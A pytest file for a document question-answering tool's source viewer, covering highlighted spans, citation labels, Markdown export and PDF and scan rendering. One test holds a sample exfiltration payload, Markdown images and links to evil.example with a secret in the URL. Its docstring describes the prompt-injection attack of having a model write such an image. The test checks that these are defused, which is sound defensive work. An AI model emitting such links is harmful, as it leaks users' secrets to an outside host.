"""What the source viewer shows: marked spans, chip labels, Markdown to copy, PDF pages."""

from __future__ import annotations

import io
from pathlib import Path

from conftest import FACTS_PAGE_2
from kbqa.domain import Answer, Citation, Flag, OcrLine
from kbqa.preview import (
    answer_markdown,
    chip_label,
    highlight,
    marked_unsupported,
    outlined_png,
    render_pdf_page,
    safe_markdown,
    supporting_lines,
)
from pdfgen import write_pdf

CITE = Citation("/docs/manuals/zephyr-manual.pdf", 2, "serviced every 450 operating hours",
                3, 0.9)


def test_the_supporting_span_is_marked_and_the_rest_escaped() -> None:
    passage = "Maintenance <b>schedule</b>\nThe pump must be serviced\nevery 450 operating hours."
    shown = highlight(passage, "serviced every 450 operating hours")
    assert "<mark>serviced<br>every 450 operating hours</mark>" in shown  # across a newline
    assert "&lt;b&gt;schedule&lt;/b&gt;" in shown and "<b>" not in shown
    assert highlight("abc", "not there") == "abc"
    two = highlight("One. Two three. Four five.", "One. … Four five.")
    assert two.count("<mark>") == 2


def test_an_answer_shows_nothing_that_loads_or_links() -> None:
    """A document can tell the model to write an image whose address carries a secret; the
    browser would fetch it as soon as the Markdown is drawn."""
    leak = ("The code is 7731 ![](http://evil.example/c.png?q=7731) [details](https://evil."
            "example/x) <img src=http://evil.example/i> see https://evil.example/y\n\n"
            "![x][r]\n\n[r]: http://evil.example/r.png")
    shown = safe_markdown(leak)
    assert "](" not in shown and "<img" not in shown and "![" not in shown
    assert "]: http" not in shown  # no reference definition left
    for address in ("http://evil.example/c.png?q=7731", "https://evil.example/x",
                    "https://evil.example/y", "http://evil.example/r.png"):
        assert f"`{address}`" in shown  # shown as code: readable, not a link
    assert "The code is 7731" in shown and "details" in shown
    answer = Answer(text=leak, citations=[CITE], grounded=True, question="Code?")
    assert "](" not in marked_unsupported(answer) and "](" not in answer_markdown(answer)
    assert safe_markdown("Every 450 hours [1].") == "Every 450 hours [1]."


def test_chips_name_file_and_place() -> None:
    assert chip_label(1, CITE) == "[1] zephyr-manual.pdf · page 2"
    sheet = Citation("/d/prices.xlsx", None, "q", 1, 0.5, "sheet Prices")
    assert chip_label(2, sheet) == "[2] prices.xlsx · sheet Prices"


def test_an_answer_copies_as_markdown_with_its_sources() -> None:
    answer = Answer("450 operating hours [1].", [CITE], True, "How often is it serviced?")
    text = answer_markdown(answer)
    assert text.splitlines()[0] == "**Q:** How often is it serviced?"
    assert '1. zephyr-manual.pdf, page 2: "serviced every 450 operating hours"' in text


def test_unsupported_sentences_stand_out_with_their_reason() -> None:
    answer = Answer(text="It is blue (not supported by the documents: the source says red).",
                    unsupported=[Flag("It is blue.", "the source says red")])
    shown = marked_unsupported(answer)
    assert ":orange-badge[⚠ not supported by the documents: the source says red]" in shown
    assert "(not supported" not in shown
    chinese = Answer(text="它是蓝色的（文档中没有依据：来源写的是红色）。",
                     unsupported=[Flag("它是蓝色的。", "来源写的是红色")])
    assert ":orange-badge[⚠ 文档中没有依据：来源写的是红色]" in marked_unsupported(chinese)


def test_a_cited_pdf_page_renders_locally(tmp_path: Path) -> None:
    pdf = tmp_path / "manual.pdf"
    write_pdf(pdf, [["Zephyr X200 pump"], FACTS_PAGE_2])
    image = render_pdf_page(pdf, 2)
    assert image is not None and image.startswith(b"\x89PNG")
    from PIL import Image

    assert Image.open(io.BytesIO(image)).width == 900
    assert render_pdf_page(pdf, 3) is None  # no such page
    assert render_pdf_page(tmp_path / "gone.pdf", 1) is None
    broken = tmp_path / "broken.pdf"
    broken.write_bytes(b"%PDF-1.4 garbage")
    assert render_pdf_page(broken, 1) is None


def _line(text: str, top: float) -> OcrLine:
    return OcrLine(text=text, left=0.1, top=top, right=0.9, bottom=top + 0.05)


def test_the_lines_that_hold_a_quote_are_found_whatever_the_spacing() -> None:
    lines = [_line("Maintenance", 0.1), _line("The pump must be ser-", 0.2),
             _line("viced every 450 hours,", 0.3), _line("with kit ZK-7731.", 0.4),
             _line("Other text.", 0.5)]
    # the chunker joined lines with spaces and kept the hyphen; OCR may drop a comma
    assert supporting_lines(lines, "The pump must be ser- viced every 450 hours with kit") \
        == [1, 2, 3]
    assert supporting_lines(lines, "…every 450 hours, with kit ZK-7731.") == [2, 3]
    assert supporting_lines(lines, "Maintenance … Other text.") == [0, 4]
    assert supporting_lines(lines, "a") == []  # too short to place
    assert supporting_lines(lines, "The pump is red") == []
    # a quote that runs on into the next page's passage: placed by the part on this page
    assert supporting_lines(lines, "Other text. Next page continues here") == [4]
    chinese = [_line("青川渡轮简介", 0.1), _line("青川渡轮的船长是", 0.2), _line("周海宁。", 0.3),
               _line("渡轮每天早上出发。", 0.4)]
    assert supporting_lines(chinese, "青川渡轮的船长是周海宁。") == [1, 2]
    assert supporting_lines(chinese, "…周海宁…") == [2]  # three characters are enough


def test_a_scan_is_drawn_with_its_supporting_lines_outlined() -> None:
    from PIL import Image

    page = Image.new("RGB", (1800, 1000), "white")
    png = outlined_png(page, [_line("x", 0.2)], width=900)
    drawn = Image.open(io.BytesIO(png)).convert("RGB")
    assert drawn.size == (900, 500)  # scaled to the chat's column, aspect kept
    orange = {drawn.getpixel((x, y)) for x in range(80, 820, 20) for y in (97, 98, 99, 100)}
    assert any(r > 200 and 80 < g < 160 and b < 60 for r, g, b in orange), orange
    inside = drawn.getpixel((450, 112))
    assert inside[2] < 230 and inside[0] > 240  # the line is tinted yellow, still readable
    assert drawn.getpixel((450, 300)) == (255, 255, 255)  # the rest of the page untouched
    small = Image.new("RGB", (400, 300), "white")
    assert Image.open(io.BytesIO(outlined_png(small, []))).size == (400, 300)  # never enlarged


def test_the_cited_page_is_read_from_an_image_a_tiff_page_an_e_mail_or_a_locked_pdf(
        tmp_path: Path) -> None:
    from email.message import EmailMessage

    from kbqa.preview import page_picture
    from PIL import Image
    from pypdf import PdfReader, PdfWriter

    wide = Image.new("RGB", (3000, 1500), "white")
    wide.save(tmp_path / "scan.png")
    shown = page_picture(str(tmp_path / "scan.png"), tmp_path / "scan.png", 1)
    assert shown is not None and shown.size == (900, 450)  # shrunk before it is drawn
    assert page_picture(str(tmp_path / "scan.png"), tmp_path / "scan.png", 2) is None
    frames = [Image.new("RGB", (400, 300), "white"), Image.new("RGB", (300, 400), "white")]
    frames[0].save(tmp_path / "fax.tiff", save_all=True, append_images=frames[1:])
    assert page_picture(str(tmp_path / "fax.tiff"), tmp_path / "fax.tiff", 2).size == (300, 400)
    mail = EmailMessage()
    mail["Subject"] = "Scan"
    mail.set_content("Attached.")
    mail.add_attachment((tmp_path / "scan.png").read_bytes(), maintype="image",
                        subtype="png", filename="scan.png")
    message = tmp_path / "mail.eml"
    message.write_bytes(bytes(mail))
    inside = page_picture(f"{message} › scan.png", message, 1)
    assert inside is not None and inside.size == (900, 450)
    writer = PdfWriter(clone_from=write_pdf(tmp_path / "plain.pdf", [["Zephyr"], ["Page two"]]))
    writer.encrypt("s3cret", algorithm="RC4-128")
    locked = tmp_path / "locked.pdf"
    writer.write(locked)
    assert PdfReader(locked).is_encrypted
    assert page_picture(str(locked), locked, 2) is None  # no password: the passage alone
    assert page_picture(str(locked), locked, 2, passwords=("wrong", "s3cret")) is not None
    assert page_picture(str(tmp_path / "gone.png"), tmp_path / "gone.png", 1) is None


def test_a_page_reader_finalised_where_pdfium_is_held_does_not_hang(tmp_path: Path) -> None:
    """A paused page generator closes its document when it is collected, maybe in a chat
    session's thread that holds the PDFium lock: that must not deadlock."""
    import threading

    from kbqa.ingest.ocr import PDFIUM, pdf_page_images

    pages = pdf_page_images(write_pdf(tmp_path / "a.pdf", [["one"], ["two"]]), [1, 2], dpi=20)
    next(pages)

    def close_while_held() -> None:
        with PDFIUM:
            pages.close()

    worker = threading.Thread(target=close_while_held, daemon=True)
    worker.start()
    worker.join(timeout=20)
    assert not worker.is_alive(), "closing the page reader under the PDFium lock hung"
